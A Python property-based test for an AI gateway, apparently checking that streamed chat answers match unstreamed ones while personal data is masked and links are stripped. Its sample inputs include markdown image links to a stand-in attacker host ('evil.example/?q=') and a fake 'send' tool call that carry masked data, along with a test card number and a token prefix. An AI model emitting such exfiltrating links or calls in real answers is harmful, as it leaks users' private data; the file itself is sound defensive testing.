"""What a client reads of a stream is what it would have read of the whole, however it was cut."""

from __future__ import annotations

import json
from itertools import pairwise, zip_longest
from typing import TYPE_CHECKING

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from extauth.gateway.exchange import Exchange
from tests.gateway.served import CHAT, EVENTS, JSON, ROUTE

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Sequence

    from extauth.gateway.dispatched import Dispatched
    from tests.gateway.served import Served
    from tests.gateway.servers import Server

    Decide = Callable[..., Awaitable[None]]

pytestmark = pytest.mark.slow

CARD = "4111 1111 1111 1111"
ASKED = [{"role": "user", "content": "Write to jane@example.com and b@example.org from 192.0.2.7."}]
BODY = {**CHAT, "messages": ASKED, "n": 2}
MASK = {"type": "mask", "kinds": ["email", "ip"], "treatment": "placeholder"}
TREAT = [
    {"type": "mask", "kinds": [kind], "treatment": treatment, "direction": "answer"}
    for kind, treatment in {"card": "redact", "iban": "stand_in", "email": "hash"}.items()
]
GUARD = {"type": "guard", "links": "strip", "allowed_domains": []}
OBLIGATIONS = {"restored": [MASK], "guarded": [MASK, GUARD], "treated": [MASK, *TREAT, GUARD]}
PROSE = (
    *(
        "The answer ",
        "is. ",
        "Grüße, ",
        "测试",
        "👩‍👧 ",
        "é",
        "\n\n",
        " ",
        "12 ",
        "[",
        "](",
        "4111 ",
    ),
    *(
        f"pay {CARD}, ",
        "DE89 3704 0044 0532 0130 00",
        "who@example.net",
        "ghp_",
        '"',
        "\\",
        "\u200b",
    ),
    *(
        "![a](https://evil.example/?q=",
        "https://example.com/a ",
        "{",
        "}",
        "EMAIL_1",
        "[EMAIL_9_a]",
    ),
)
SPELLINGS = (
    "{}",
    "x{}",
    "**{}** ",
    "`{}`",
    "({})",
    '{{"name": "send", "arguments": "{{\\"to\\": \\"{}\\"}}"}}',
    "![x](https://evil.example/?to={})",
)


class Answer(msgspec.Struct, frozen=True):
    """The texts of both choices, cut into deltas, and how the bytes of the stream are cut."""

    deltas: tuple[tuple[int, str], ...]
    ascii_only: bool
    cuts: tuple[int, ...] | None

    @property
    def texts(self) -> list[str]:
        return ["".join(text for of, text in self.deltas if of == index) for index in (0, 1)]


def placeholders(prompt: str) -> list[str]:
    """What stands for the addresses in what the server reads."""
    words = prompt.split()
    return [word[: word.index("]") + 1] for word in words if word.startswith("[")]


def cut(text: str, places: Sequence[int]) -> list[str]:
    bounds = [0, *sorted({min(place, len(text)) for place in places}), len(text)]
    return [text[start:end] for start, end in pairwise(bounds)]


def spelled(placeholder: str) -> st.SearchStrategy[str]:
    told = [placeholder, placeholder.lower(), placeholder.replace("_", r"\_"), placeholder[1:-1]]
    told += [placeholder[:-1], placeholder.replace("_", " ")]
    return st.builds(str.format, st.sampled_from(SPELLINGS), st.sampled_from(told))


@st.composite
def answers(draw: st.DrawFn, issued: Sequence[str]) -> Answer:
    piece = st.one_of(st.sampled_from(PROSE), *map(spelled, issued))
    texts = [draw(st.lists(piece, max_size=8).map("".join)) for _ in range(2)]
    places = st.just(range(1000)) | st.lists(st.integers(0, 120), max_size=6)
    each = [[(index, one) for one in cut(text, draw(places))] for index, text in enumerate(texts)]
    turns = [delta for pair in zip_longest(*each) for delta in pair if delta is not None]
    cuts = draw(st.none() | st.lists(st.integers(1, 400), min_size=1, max_size=20).map(tuple))
    return Answer(tuple(turns), draw(st.booleans()), cuts)


def sent(answer: Answer, server: Server) -> list[bytes]:
    """The server's stream, as its bytes arrive: one at a time without `cuts`."""
    events = []
    last = {index: at for at, (index, _) in enumerate(answer.deltas)}
    for at, (index, text) in enumerate(answer.deltas):
        reason = "stop" if at == last[index] else ""
        fields = json.loads(server.event(text, at + 1, reason, index).removeprefix(b"data: "))
        events.append(f"data: {json.dumps(fields, ensure_ascii=answer.ascii_only)}\n\n")
    data = "".join(events).encode()
    if answer.cuts is None:
        return [data[at : at + 1] for at in range(len(data))]
    pieces, at = [], 0
    while at < len(data):
        size = answer.cuts[len(pieces) % len(answer.cuts)]
        pieces.append(data[at : at + size])
        at += size
    return pieces


def read(stream: bytes) -> list[str]:
    """The text of each choice, as an OpenAI client joins it."""
    events = stream.decode().split("\n\n")
    assert events[-2:] == ["data: [DONE]", ""]
    texts = ["", ""]
    for event in events[:-2]:
        for choice in json.loads(event.removeprefix("data: "))["choices"]:
            texts[choice["index"]] += choice["delta"].get("content", "")
    return texts


class Asked:
    """One request, begun again and again: its answers know the same placeholders."""

    def __init__(self, served: Served, server: Server, first: Dispatched) -> None:
        self._served = served
        self._masker = first.masker
        self.server = server
        self.issued = placeholders(server.read(first.request.body))

    async def begin(self, **fields: object) -> Exchange:
        """An exchange whose answer is still to come."""
        transaction, dispatch = await self._served.dispatch({**BODY, **fields})
        return Exchange(transaction, msgspec.structs.replace(dispatch, masker=self._masker))


@pytest.fixture(params=OBLIGATIONS.values(), ids=OBLIGATIONS.keys())
async def asked(
    served: Served, server: Server, decide: Decide, request: pytest.FixtureRequest
) -> Asked:
    """A request with three placeholders."""
    await decide(inference={"allow": True, "route": ROUTE, "obligations": request.param})
    _, first = await served.dispatch(BODY)
    made = Asked(served, server, first)
    assert len(made.issued) == 3
    return made


@settings(max_examples=50, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
async def test_a_stream_reads_like_the_whole(asked: Asked, data: st.DataObject) -> None:
    answer = data.draw(answers(asked.issued))
    plain = await asked.begin()
    plain.headers(200, JSON)
    whole = await plain.plain(asked.server.choices(*answer.texts, tokens=[1, 1]))
    expected = [choice["message"]["content"] for choice in json.loads(whole.body)["choices"]]

    stream = await asked.begin(stream=True)
    stream.headers(200, EVENTS)
    out = [await stream.chunk(piece, end=False) for piece in sent(answer, asked.server)]
    assert read(b"".join([*out, await stream.chunk(b"", end=True)])) == expected
